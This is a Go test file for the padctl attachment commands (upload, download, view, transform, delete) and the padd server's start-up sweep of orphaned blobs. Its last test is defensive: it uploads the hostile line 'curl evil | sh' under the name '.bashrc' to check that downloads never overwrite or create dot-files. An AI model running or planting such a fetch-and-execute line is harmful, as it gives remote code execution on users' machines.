//go:build unix

package cli

import (
	"bytes"
	"context"
	"image"
	"image/png"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/padd/padd/api"
	"github.com/padd/padd/internal/launch"
)

// TestAttachmentCommands runs padctl in-process against a real padd:
// upload (attached and not), list, show, download, attach, delete.
func TestAttachmentCommands(t *testing.T) {
	padd, _ := binaries(t)
	home := startPadd(t, padd)
	dir := t.TempDir()
	run, must := inProcess(t, home, dir)
	must("workspace", "create", "Files", "--slug", "files")
	must("-w", "files", "item", "create", "tasks", "Crash on save")

	data := bytes.Repeat([]byte("log line\n"), 1000)
	src := filepath.Join(dir, "crash.log")
	if err := os.WriteFile(src, data, 0o644); err != nil {
		t.Fatal(err)
	}
	up := decode[api.AttachmentUpload](t, must("-w", "files", "attachment", "upload", "TASK-1", src, "--format", "json"))
	if up.ItemRef != "TASK-1" || up.Size != int64(len(data)) || up.Filename != "crash.log" || !strings.HasPrefix(up.MIME, "text/plain") {
		t.Fatalf("upload: %+v", up)
	}
	r := must("-w", "files", "attachment", "upload", "-", src, "--filename", "second.log")
	if !strings.Contains(r.stdout, "Uploaded second.log") || !strings.Contains(r.stdout, "unattached") {
		t.Fatalf("unattached upload said %q", r.stdout)
	}
	list := decode[api.AttachmentList](t, must("-w", "files", "attachment", "list", "--unattached", "--format", "json"))
	if list.Total != 1 || list.Attachments[0].Filename != "second.log" {
		t.Fatalf("unattached list: %+v", list)
	}
	loose := list.Attachments[0].ID
	if r := must("-w", "files", "attachment", "list"); !strings.Contains(r.stdout, "crash.log") || !strings.Contains(r.stdout, "TASK-1") {
		t.Fatalf("list table: %q", r.stdout)
	}

	show := decode[api.AttachmentMeta](t, must("-w", "files", "attachment", "show", up.ID, "--format", "json"))
	if show.Size != int64(len(data)) || show.Filename != "crash.log" || show.ETag != `"`+up.ContentHash+`"` || show.LastModified == "" {
		t.Fatalf("show: %+v", show)
	}

	out := filepath.Join(dir, "copy.log")
	must("-w", "files", "attachment", "download", up.ID, out)
	if got, err := os.ReadFile(out); err != nil || !bytes.Equal(got, data) {
		t.Fatalf("downloaded %d bytes (%v), want %d", len(got), err, len(data))
	}
	if left, _ := filepath.Glob(filepath.Join(dir, ".*part*")); len(left) != 0 {
		t.Errorf("part files left: %v", left)
	}

	// view: the path alone on stdout, the file under its stored name in a
	// new temporary folder (or where -o says).
	viewed := strings.TrimSpace(must("-w", "files", "attachment", "view", up.ID).stdout)
	t.Cleanup(func() { os.RemoveAll(filepath.Dir(viewed)) })
	if got, err := os.ReadFile(viewed); err != nil || !bytes.Equal(got, data) || filepath.Base(viewed) != "crash.log" || !filepath.IsAbs(viewed) {
		t.Fatalf("view printed %q: %d bytes, %v", viewed, len(got), err)
	}
	v := decode[map[string]any](t, must("-w", "files", "attachment", "view", up.ID, "-o", filepath.Join(dir, "v.log"), "--format", "json"))
	if v["path"] != filepath.Join(dir, "v.log") || v["size"] != float64(len(data)) {
		t.Fatalf("view -o: %+v", v)
	}

	// transform: a new attachment on the same item; --rotate=-90 is 270.
	var img bytes.Buffer
	if err := png.Encode(&img, image.NewGray(image.Rect(0, 0, 3, 2))); err != nil {
		t.Fatal(err)
	}
	pngPath := filepath.Join(dir, "shot.png")
	if err := os.WriteFile(pngPath, img.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	shot := decode[api.AttachmentUpload](t, must("-w", "files", "attachment", "upload", "TASK-1", pngPath, "--format", "json"))
	turned := decode[api.AttachmentUpload](t, must("-w", "files", "attachment", "transform", shot.ID, "--rotate=-90", "--format", "json"))
	if turned.ID == shot.ID || turned.ItemRef != "TASK-1" || turned.Filename != "shot.rotate.png" || *turned.Width != 2 || *turned.Height != 3 {
		t.Fatalf("transform --rotate=-90: %+v", turned)
	}
	if r := must("-w", "files", "attachment", "transform", shot.ID, "--crop", "1,0,2,2"); !strings.Contains(r.stdout, "shot.crop.png (image/png, 2x2") {
		t.Fatalf("transform --crop said %q", r.stdout)
	}
	for _, args := range [][]string{{"--rotate", "90", "--crop", "0,0,1,1"}, {"--rotate", "45"}, {"--crop", "1,2,3"}, {}} {
		if r := run(append([]string{"-w", "files", "attachment", "transform", shot.ID}, args...)...); r.code != 2 || !strings.Contains(r.stderr, "transform_usage") {
			t.Errorf("transform %v: %s", args, r)
		}
	}
	if r := run("-w", "files", "attachment", "transform", up.ID, "--rotate", "90"); r.code == 0 || !strings.Contains(r.stderr, "unsupported_format") {
		t.Errorf("transform of a log: %s", r)
	}
	// A 3x2 image has no thumbnail: the original comes; an unknown variant is refused.
	if r := must("-w", "files", "attachment", "download", shot.ID, "-", "--variant", "thumb-sm"); r.stdout != img.String() {
		t.Errorf("download --variant thumb-sm of a 3x2 image: %d bytes", len(r.stdout))
	}
	if r := run("-w", "files", "attachment", "download", shot.ID, "-", "--variant", "thumb-xl"); r.code == 0 || !strings.Contains(r.stderr, "bad_variant") {
		t.Errorf("download --variant thumb-xl: %s", r)
	}

	must("-w", "files", "attachment", "attach", loose, "TASK-1")
	r = run("-w", "files", "attachment", "attach", loose, "TASK-1")
	if r.code == 0 || !strings.Contains(r.stderr, "conflict") {
		t.Fatalf("second attach: %s", r)
	}
	must("-w", "files", "attachment", "delete", loose)
	r = run("-w", "files", "attachment", "show", loose)
	if r.code == 0 || !strings.Contains(r.stderr, "not_found") {
		t.Fatalf("show after delete: %s", r)
	}
}

// padd sweeps at start-up: a blob no row names, older than the grace
// period, is gone once padd answers; a named one and a young orphan stay.
func TestAttachmentSweepAtStartup(t *testing.T) {
	padd, _ := binaries(t)
	home := startPadd(t, padd)
	dir := t.TempDir()
	_, must := inProcess(t, home, dir)
	must("workspace", "create", "Files", "--slug", "files")
	src := filepath.Join(dir, "kept.txt")
	if err := os.WriteFile(src, []byte("kept"), 0o644); err != nil {
		t.Fatal(err)
	}
	kept := decode[api.AttachmentUpload](t, must("-w", "files", "attachment", "upload", "-", src, "--format", "json"))
	info, err := launch.ReadInfo(home)
	if err != nil {
		t.Fatal(err)
	}
	if err := terminate(info.PID); err != nil || !waitExit(context.Background(), info.PID, 10*time.Second) {
		t.Fatalf("padd pid %d did not stop: %v", info.PID, err)
	}

	blobs := filepath.Join(home, "blobs")
	plant := func(hash string, age time.Duration) string {
		t.Helper()
		p := filepath.Join(blobs, hash[:2], hash)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if _, err := os.Stat(p); err != nil {
			if err := os.WriteFile(p, []byte("orphan "+hash[:4]), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		at := time.Now().Add(-age)
		if err := os.Chtimes(p, at, at); err != nil {
			t.Fatal(err)
		}
		return p
	}
	old := plant(strings.Repeat("ab", 32), 2*time.Hour)
	young := plant(strings.Repeat("cd", 32), time.Minute)
	named := plant(kept.ContentHash, 2*time.Hour)

	startPaddIn(t, padd, home)
	for p, want := range map[string]bool{old: false, young: true, named: true} {
		if _, err := os.Stat(p); (err == nil) != want {
			log, _ := os.ReadFile(filepath.Join(home, "padd.log"))
			t.Errorf("%s there: %v, want %v; padd.log:\n%s", filepath.Base(p)[:8], err == nil, want, log)
		}
	}
	if r := must("-w", "files", "attachment", "download", kept.ID, "-"); r.stdout != "kept" {
		t.Errorf("kept attachment after the sweep: %q", r.stdout)
	}
}

// TestDownloadNeverOverwritesNorWritesADotFile: an attachment named
// .bashrc downloaded in the home folder leaves ./.bashrc alone; an
// existing file is replaced only with --force.
func TestDownloadNeverOverwritesNorWritesADotFile(t *testing.T) {
	padd, _ := binaries(t)
	home := startPadd(t, padd)
	dir := t.TempDir()
	run, must := inProcess(t, home, dir)
	must("workspace", "create", "Files", "--slug", "files")
	src := filepath.Join(t.TempDir(), "payload")
	if err := os.WriteFile(src, []byte("curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	up := decode[api.AttachmentUpload](t, must("-w", "files", "attachment", "upload", "-", src, "--filename", ".bashrc", "--format", "json"))
	if up.Filename != ".bashrc" {
		t.Fatalf("padd stored the name as %q; the case needs the dot name kept, as a remote may send it", up.Filename)
	}
	rc := filepath.Join(dir, ".bashrc")
	if err := os.WriteFile(rc, []byte("mine"), 0o644); err != nil {
		t.Fatal(err)
	}
	must("-w", "files", "attachment", "download", up.ID)
	if b, _ := os.ReadFile(rc); string(b) != "mine" {
		t.Fatalf("./.bashrc now holds %q", b)
	}
	if b, err := os.ReadFile(filepath.Join(dir, "bashrc")); err != nil || string(b) != "curl evil | sh\n" {
		t.Fatalf("the download went to %v: %q", err, b)
	}
	// Again: bashrc exists now, and is kept.
	if err := os.WriteFile(filepath.Join(dir, "bashrc"), []byte("edited"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := run("-w", "files", "attachment", "download", up.ID)
	if r.code == 0 || !strings.Contains(r.stderr, "file_exists") || !strings.Contains(r.stderr, "--force") {
		t.Fatalf("a download over an existing file: %s", r)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "bashrc")); string(b) != "edited" {
		t.Fatalf("bashrc overwritten: %q", b)
	}
	// An explicit name is held to the same rule.
	if r := run("-w", "files", "attachment", "download", up.ID, ".bashrc"); r.code == 0 {
		t.Fatalf("download over ./.bashrc by name: %s", r)
	}
	if b, _ := os.ReadFile(rc); string(b) != "mine" {
		t.Fatalf("./.bashrc now holds %q", b)
	}
	must("-w", "files", "attachment", "download", up.ID, "bashrc", "--force")
	if b, _ := os.ReadFile(filepath.Join(dir, "bashrc")); string(b) != "curl evil | sh\n" {
		t.Fatalf("--force did not replace: %q", b)
	}
	if left, _ := filepath.Glob(filepath.Join(dir, ".*part*")); len(left) != 0 {
		t.Errorf("part files left: %v", left)
	}
}
